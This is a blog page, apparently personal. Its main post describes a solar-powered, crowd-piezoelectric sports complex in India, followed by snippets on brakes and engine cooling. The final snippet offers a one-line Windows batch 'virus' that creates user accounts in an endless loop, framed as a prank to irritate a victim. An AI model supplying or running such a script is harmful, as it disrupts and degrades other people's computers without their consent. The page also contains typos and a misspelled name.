Skip to main content

Solar-Powered Piezoelectric Sports Stadium Breaks Ground in India........:)

India broke ground on a gorgeous solar-powered sports complex that will harvest piezoelectric energy from the crowds that enter itsgates. Designed by Studio Symbiosis, the Athletic Ripple Project was commemorated by India's National Congress former President Dr. Manmohan sigh. The vast new complex emerges out of the natural landscape as an iconic structure that mimics the form of water droplets.


Each section, or ripple, contains a different sporting activity space. The “droplets” vary in size, design and purpose, but Studio Symbiosis unified each section bydesigning them to symbolize individual pebbles in a pond. The complex to emulates the ebb and flow of a swelling pond, and therefore gradates into the existing landscape rather than obstructing it.

The complex is a sort of “sports city” that was designed to minimize congestion — a pedestrian walkway will be constructed down the middle, and opposing roadways surround the perimeter. The walkway brings visitors closer to the action and away from the surrounding urban environment and traffic.

The sports center also boasts an impressive roster of sustainable and energy-efficient building strategies. The roofs of the various stadium cells are lined with both solar and pneumatic panels, which collect and generate energy. The center’s anticipated heavy foot traffic will also be put to good use — piezoelectric generators will harness the movement of the crowds and convert it into energy. The ambitious project will continue to develop.


Popular posts from this blog


By:Prayag nao

An internal expanding brake consists of two shoes S1 and S2. The outer surface of the shoes are lined with some friction material (usually with Ferodo) to increase the coefficient offriction and to prevent wearing away of the metal. Each shoe is pivoted at one end about a fixed fulcrum O1and O2 and made to contact a cam at the other end. When the cam rotates, the shoes are pushed outwards against the rim of the drum. The friction between the shoes and the drum produces the braking torque and hence reduces the speed of the drum. The shoes are normally held in
off position by a spring . The drum encloses the entire mechanism to keep out dust and moisture. This type of brake is commonly used in motor cars and light trucks.

We shall now consider the forces acting on such a brake, when the drum rotates in the anticlockwise direction. It may be noted that for the anticlockwise direction, the left hand shoe is known as leading or primary shoe while the right hand sho…

How an engine cooling system worksBy: Prayag nao

User account flooder virus

By:prayag nao

Hello my friends User account flooder virus make multiple account in pc.
it an fun virus usually used for irritating victim.

This code would start creating windows user accounts whose names could be any random numbers.

@echo off :x net user %random% /add     //create user account goto x copy n paste these code into notepad and savewith bat extension. Enjoy...!!!!